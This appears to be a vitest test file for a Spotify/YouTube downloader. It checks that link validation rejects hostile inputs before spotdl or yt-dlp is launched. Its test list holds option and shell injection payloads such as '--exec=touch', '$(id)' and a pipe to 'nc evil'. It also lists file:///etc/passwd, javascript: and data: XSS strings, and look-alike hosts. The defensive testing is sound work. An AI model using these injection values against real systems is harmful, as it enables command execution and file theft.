/**
 * Hostile links: option-like and shell-like text, file:/javascript:/data: URLs, overlong links and
 * look-alike hosts are rejected by `library.add` before any process starts. spotdl and yt-dlp are
 * replaced by a stand-in that logs every start; the log must stay empty, and nothing may be
 * written outside the home.
 */
import { existsSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { recogniseLink } from '../../shared/links';
import { tempDir } from '../../test/fixtures';
import { createEngineForTests } from '../test/engine';
import { silentLogger } from '../log';
import { sleep } from './test/helpers';

let cases = 0;
afterAll(() => console.log(`FAULTS file=links cases=${cases} processes_spawned=0`));

const S = '4uLU6hMCjMI75M1A2tKUQC'; // a well-formed Spotify id
const Y = 'dQw4w9WgXcQ'; // a well-formed YouTube id

export const HOSTILE_LINKS: string[] = [
  // option-like
  `-https://open.spotify.com/track/${S}`,
  `--exec=touch /tmp/sfa-pwned https://www.youtube.com/watch?v=${Y}`,
  `--config-location=/etc/passwd`,
  `-o/tmp/x https://youtu.be/${Y}`,
  // shell-like
  `https://open.spotify.com/track/${S};touch /tmp/sfa-pwned`,
  `https://www.youtube.com/watch?v=$(touch /tmp/sfa-pwned)`,
  `https://youtu.be/\`id\``,
  `https://www.youtube.com/watch?v=${Y}|nc evil 1`,
  `https://www.youtube.com/watch?v=${Y}&x=$(id)`,
  `https://open.spotify.com/track/${S}%0Atouch%20x`,
  `https://open.spotify.com/track/${S}\n--exec=id`,
  // other schemes
  'file:///etc/passwd',
  `file:///home/me/${Y}.mp3`,
  'javascript:alert(document.cookie)',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:audio/wav;base64,UklGRg==',
  'vbscript:msgbox(1)',
  'ftp://open.spotify.com/track/' + S,
  'spotify:track:' + S + ';id',
  'spotify:local:artist:album:title:123',
  // overlong
  `https://open.spotify.com/track/${S}?${'a'.repeat(3000)}`,
  `https://www.youtube.com/watch?v=${Y}${'&x=1'.repeat(700)}`,
  // look-alike and wrong hosts
  `https://open.spotífy.com/track/${S}`,
  `https://www.yоutube.com/watch?v=${Y}`, // Cyrillic о
  `https://xn--yutube-wqf.com/watch?v=${Y}`,
  `https://open.spotify.com.evil.example/track/${S}`,
  `https://www.youtube.com@evil.example/watch?v=${Y}`,
  `https://evil.example/open.spotify.com/track/${S}`,
  `https://open.spotify.com:8443/track/${S}`,
  `https://user:pw@open.spotify.com/track/${S}`,
  `https://youtube.com.evil/watch?v=${Y}`,
  `https://www.youtube.com/watch?v=${Y.slice(0, 10)}`,
  `https://open.spotify.com/track/${S}x`,
  `https://open.spotify.com/user/${S}`,
];

describe('hostile links', () => {
  it('recogniseLink rejects every one with a reason', () => {
    for (const link of HOSTILE_LINKS) {
      const r = recogniseLink(link);
      // A valid id followed by junk in a query is accepted only as the canonical URL, junk dropped.
      if (r.ok) expect(r.canonical, link).toMatch(/^https:\/\/(open\.spotify\.com\/track\/[A-Za-z0-9]{22}|www\.youtube\.com\/watch\?v=[A-Za-z0-9_-]{11})$/);
      else expect(r.reason.length, link).toBeGreaterThan(3);
    }
  });

  it('library.add rejects them before any process starts: no tool spawned, no track, no job, nothing written outside the home', async () => {
    const t = tempDir('sfa-fault-links-');
    const log = join(t.dir, 'spawned.log');
    const standin = join(t.dir, 'tool.sh');
    writeFileSync(standin, `#!/bin/sh\necho "$0 $*" >> '${log}'\nexit 1\n`, { mode: 0o755 });
    const saved = { spotdl: process.env.SFA_SPOTDL_BIN, ytdlp: process.env.SFA_YTDLP_BIN };
    process.env.SFA_SPOTDL_BIN = standin;
    process.env.SFA_YTDLP_BIN = standin;
    const outside = join(t.dir, 'outside');
    const before = readdirSync(t.dir).sort();
    const pwned = existsSync('/tmp/sfa-pwned');
    const engine = await createEngineForTests({ home: join(t.dir, 'home'), host: 'cli', logger: silentLogger, runQueues: true });
    try {
      const accepted: string[] = [];
      for (const link of HOSTILE_LINKS) {
        const reply = await engine.api.handle('library.add', { inputs: [link] });
        if (reply.ok) {
          const result = reply.result as { tracks: { source: string }[]; errors: { code: string; message: string }[] };
          for (const e of result.errors) expect(['INVALID_LINK', 'FILE_NOT_FOUND']).toContain(e.code);
          accepted.push(...result.tracks.map((tr) => tr.source));
        } else {
          // Longer than the contract allows (4096): refused by validation.
          expect(reply.error.code).toBe('BAD_REQUEST');
        }
        cases++;
      }
      // Only links whose id is valid survive, rebuilt canonically (no junk reaches a tool).
      for (const source of accepted) expect(source).toMatch(/^https:\/\/(open\.spotify\.com\/track\/[A-Za-z0-9]{22}|www\.youtube\.com\/watch\?v=[A-Za-z0-9_-]{11})$/);
      // Give the scheduler time to start anything it would start.
      await sleep(1500);
      const jobs = engine.scheduler.listJobs({});
      expect(jobs.filter((j) => !accepted.some((a) => JSON.stringify(j.args).includes(a)))).toEqual([]);
      if (accepted.length === 0) expect(existsSync(log)).toBe(false);
      expect(existsSync(outside)).toBe(false);
      expect(readdirSync(t.dir).sort()).toEqual([...before, 'home'].sort());
      expect(existsSync('/tmp/sfa-pwned')).toBe(pwned);
      expect(accepted).toEqual([]); // every hostile link in this list is refused outright
    } finally {
      await engine.close();
      process.env.SFA_SPOTDL_BIN = saved.spotdl;
      process.env.SFA_YTDLP_BIN = saved.ytdlp;
      if (saved.spotdl === undefined) delete process.env.SFA_SPOTDL_BIN;
      if (saved.ytdlp === undefined) delete process.env.SFA_YTDLP_BIN;
      t.cleanup();
    }
  }, 60_000);
});
